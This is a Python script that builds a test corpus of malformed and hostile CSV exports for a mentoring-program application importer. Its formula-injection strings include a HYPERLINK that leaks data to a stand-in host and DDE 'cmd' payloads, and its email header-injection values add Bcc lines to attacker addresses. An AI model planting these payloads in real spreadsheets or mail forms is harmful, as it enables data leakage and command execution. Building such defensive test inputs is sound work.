"""Writes the bad-input corpus: `python -m tests.support.corpus` (from the project folder) rebuilds every file in
tests/corpus/.

Each file is a small export of the responses sheet with one kind of hostile or broken input. What each must
become (a recorded reason, handled as text, or a clear refusal) is stated in tests/test_corpus.py. Cases
that would be large on disk (1 MB cells, 50,000 empty rows) are made by the test at run time instead.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

from examples.generate import HEADERS
from tests.support.paths import CORPUS_DIR
from tests.support.rows import GOOD_ROW

# GOOD_ROW of tests/support/rows.py, with the lead's address as a form would hold it and a phone number.
GOOD: dict[str, str] = GOOD_ROW | {"Team lead email": "dana@troyea.example.org", "Team lead phone": "518-555-0100"}
TEXT_FIELDS = (
    "Local Association name",
    "State affiliate",
    "Team lead name",
    "Team lead phone",
    "Team member 2 name",
    "Team member 3 name",
    "Does your local currently have an ESP mentoring program?",
    "Why does your local want to build an ESP mentoring program?",
)
EMAIL_FIELDS = ("Email Address", "Team lead email", "Team member 2 email")
STATES = ("Ohio", "Texas", "Illinois", "California", "Oregon", "Maine", "Iowa", "Utah", "Idaho", "Kansas")
# Spreadsheet formula payloads: each starts with one of = + - @ tab CR.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def answers(n: int, **changes: str) -> dict[str, str]:
    """A valid response of team n (its own local, state and addresses), with some answers changed by title."""
    made = dict(GOOD)
    made |= {
        "Local Association name": f"Local {n} Education Association",
        "State": STATES[n % len(STATES)],
        "Team lead email": f"lead{n}@local{n}.example.org",
        "Email Address": f"lead{n}@local{n}.example.org",
        "Team member 2 email": f"member{n}@local{n}.example.org",
    }
    return made | changes


def line(values: dict[str, str], headers: tuple[str, ...] = HEADERS) -> list[str]:
    return [values.get(title, "") for title in headers]


def csv_text(rows: list[list[str]], delimiter: str = ",") -> str:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return out.getvalue()


def sheet(*responses: dict[str, str], headers: tuple[str, ...] = HEADERS) -> str:
    return csv_text([list(headers), *(line(r, headers) for r in responses)])


def formula_injection() -> str:
    rows = []
    for n, payload in enumerate(FORMULAS, start=1):
        hostile = {title: f"{payload} {n}" for title in TEXT_FIELDS}
        hostile["Team member 3 name"] = f"Ann Lee\r{payload}"  # a payload after a line break inside the cell
        rows.append(answers(n, **hostile))
    rows.append(
        answers(
            7,
            **{title: FORMULAS[0] for title in (*EMAIL_FIELDS, "State", "Timestamp")},
            **{"ESP job families represented on the team": "=1+1, Food Services"},
        )
    )
    return sheet(*rows)


def email_injection() -> str:
    leads = (
        "lead1@local1.example.org\r\nBcc: evil@attacker.example",
        "lead2@local2.example.org, other@attacker.example",
        "lead3@local3.example.org;other@attacker.example",
        "Dana <lead4@local4.example.org>",
        '"evil\r\nBcc: x"@local5.example.org',
    )
    rows = [answers(n, **{"Team lead email": lead, "Email Address": lead}) for n, lead in enumerate(leads, start=1)]
    rows.append(answers(6, **{"Email Address": "sub6@local6.example.org\nBcc: evil@attacker.example"}))
    rows.append(answers(7, **{"Team member 2 email": "m7@local7.example.org\r\nTo: evil@attacker.example"}))
    rows.append(answers(8))
    return sheet(*rows)


def nul_bytes() -> str:
    return sheet(
        answers(
            1,
            **{
                "Local Association name": "Local\x00 1 Education Association",
                "Team lead name": "Dana\x00 Whitfield",
                "Team lead email": "lead1@local1.example.org\x00",
                "Why does your local want to build an ESP mentoring program?": "\x00\x00\x00",
            },
        ),
        answers(2),
    ).replace("Timestamp", "Time\x00stamp", 1)


def invalid_utf8() -> bytes:
    text = sheet(answers(1), answers(2, **{"Local Association name": "Caf\u00e9 2 Education Association"}))
    return text.encode("latin-1")


def utf16_tab() -> bytes:
    rows = [list(HEADERS), line(answers(1, **{"Team lead name": "Zoë Ñúñez"})), line(answers(2))]
    return csv_text(rows, delimiter="\t").encode("utf-16")


def boms() -> bytes:
    text = sheet(
        answers(1, **{"Local Association name": "Local\ufeff 1 Education Association"}),
        answers(2, **{"State affiliate": "\ufeff"}),
    )
    return b"\xef\xbb\xbf" + ("\ufeff" + text).encode("utf-8")


def confusables() -> str:
    return sheet(
        answers(1, **{"Local Association name": "Troy Education Association", "State": "New York"}),
        answers(2, **{"Local Association name": "\u0422roy Education Association", "State": "New York"}),
        answers(3, **{"Local Association name": "Troy Educat\u0456on Association", "State": "New York"}),
    )


def bidi() -> str:
    return sheet(
        answers(1, **{"Local Association name": "Local 1 \u202eAE\u202c", "Team lead name": "\u202eDana\u202c"}),
        answers(2, **{"Team member 2 name": "\u2067Luis\u2069 \u202aOrtega\u202c \u202bx\u202c \u202dy\u202c"}),
    )


def emoji() -> str:
    return sheet(
        answers(1, **{"Local Association name": "Local 1 🍎 Education Association", "Team lead name": "Dana 👩‍🏫"}),
        answers(2, **{"Why does your local want to build an ESP mentoring program?": "🚌🧹🍎" * 40}),
        answers(3, **{"Team lead email": "dana😀@local3.example.org", "Email Address": "dana😀@local3.example.org"}),
    )


# (timestamp text, what it is); the test names the reason each must get.
DATES = (
    ("2021-06-01 12:30:00", "an XLSX-style date cell: read"),
    ("6/1/2021 12:30", "no seconds"),
    ("June 1, 2021 12:30:00", "month name"),
    ("01.06.2021 12:30:00", "European dots"),
    ("6/1/21 12:30:00", "two-digit year"),
    ("2021-06-01T12:30:00Z", "ISO with zone"),
    ("2021-06-01T12:30:00+02:00", "ISO with offset"),
    ("2/30/2021 10:00:00", "February 30"),
    ("13/45/2021 10:00:00", "month 13"),
    ("6/1/2021 25:61:00", "hour 25"),
    ("0/0/0000 0:00:00", "all zero"),
    ("12/31/9999 23:59:59", "year 9999"),
    ("1/1/0001 0:00:00", "year 1"),
    ("11/7/2021 1:30:00", "repeated hour (clocks go back)"),
    ("3/14/2021 2:30:00", "skipped hour (clocks go forward)"),
)


def dates() -> str:
    return sheet(*(answers(n, Timestamp=text) for n, (text, _) in enumerate(DATES, start=1)))


NUMBERS = ("-1", "-99999999999999999999", "1e308", "1e400", "99999999999999999999999999", "-0", "NaN", "inf")


def numbers() -> str:
    rows = []
    for n, number in enumerate(NUMBERS, start=1):
        rows.append(
            answers(
                n,
                Timestamp=number,
                **{title: number for title in ("Team lead phone", "State affiliate", "Team member 3 name")},
                **{"Local Association name": f"{number} Local {n}"},
            )
        )
    rows.append(answers(20, State="-1"))
    rows.append(answers(21, **{"Local Association name": "1e308"}))
    return sheet(*rows)


def numbers_xlsx(path: Path) -> None:
    from openpyxl import Workbook

    book = Workbook()
    ws = book.active
    ws.title = "Form Responses 1"
    ws.append(list(HEADERS))
    cells: list[tuple[object, object, object]] = [
        (dt.datetime(2021, 6, 1, 12, 30), 5185550100, 1),
        (44348.5, -5551234, -1),
        (-1, 1e308, 1e308),
        (1e308, -1e-308, 0),
    ]
    for n, (stamp, phone, number) in enumerate(cells, start=1):
        values: list[object] = line(answers(n))
        values[HEADERS.index("Timestamp")] = stamp
        values[HEADERS.index("Team lead phone")] = phone
        values[HEADERS.index("State affiliate")] = number
        values[HEADERS.index("Team member 3 name")] = number
        ws.append(values)
    book.save(path)


def duplicated_headers() -> str:
    headers = (*HEADERS, "Team lead email")
    return sheet(answers(1), headers=headers)


def duplicated_unmapped_headers() -> str:
    headers = (*HEADERS, "Notes", "Notes", "", "")
    extra = answers(1) | {"Notes": "first"}
    return sheet(extra, answers(2), headers=headers)


def missing_headers() -> str:
    return sheet(answers(1), headers=tuple(h for h in HEADERS if h != "State"))


def headerless() -> str:
    return csv_text([line(answers(1)), line(answers(2))])


def extra_columns() -> str:
    headers = (*HEADERS, "Staff notes")
    rows = [list(headers), line(answers(1) | {"Staff notes": "call back"}, headers)]
    rows.append([*line(answers(2), headers), "beyond the header", "=1+1"])
    rows.append(line(answers(3))[:5])  # a short row: the rest of its answers are blank
    return csv_text(rows)


# (answer title, answer as people write it, what it must become: a value, or None for a reason quoting the answer).
ANSWERS = (
    ("State", "N.Y.", "NY"),
    ("State", "Washington, D.C.", "DC"),
    ("State", " w. va. ", "WV"),
    ("State", "Mont.", "MT"),
    ("State", "calif", "CA"),
    ("State", "Pennsylvannia", None),
    (
        "ESP job families represented on the team",
        "food services, Food Services, CLERICAL  SERVICES",
        ["Food Services", "Clerical Services"],
    ),
    ("Education levels your local serves", "higher education, Higher Education", ["Higher Education"]),
    ("Has your local president approved this application?", "Not yet", None),
    ("Can your team commit to the 9-week course schedule?", "Y", None),
)


def spellings() -> str:
    """States, checkbox options and Yes/No answers as people write them (tests/test_answers.py)."""
    return sheet(*(answers(n, **{title: text}) for n, (title, text, _) in enumerate(ANSWERS, start=1)))


TEXT_FILES = {
    "answers.csv": spellings,
    "formula_injection.csv": formula_injection,
    "email_injection.csv": email_injection,
    "nul_bytes.csv": nul_bytes,
    "confusables.csv": confusables,
    "bidi_overrides.csv": bidi,
    "emoji.csv": emoji,
    "dates.csv": dates,
    "numbers.csv": numbers,
    "duplicated_headers.csv": duplicated_headers,
    "duplicated_unmapped_headers.csv": duplicated_unmapped_headers,
    "missing_headers.csv": missing_headers,
    "headerless.csv": headerless,
    "extra_columns.csv": extra_columns,
}
BYTE_FILES = {"invalid_utf8.csv": invalid_utf8, "utf16_tab.csv": utf16_tab, "boms.csv": boms}


def main() -> None:
    for name, make in TEXT_FILES.items():
        (CORPUS_DIR / name).write_bytes(make().encode("utf-8"))
    for name, make in BYTE_FILES.items():
        (CORPUS_DIR / name).write_bytes(make())
    numbers_xlsx(CORPUS_DIR / "numbers.xlsx")


if __name__ == "__main__":
    main()
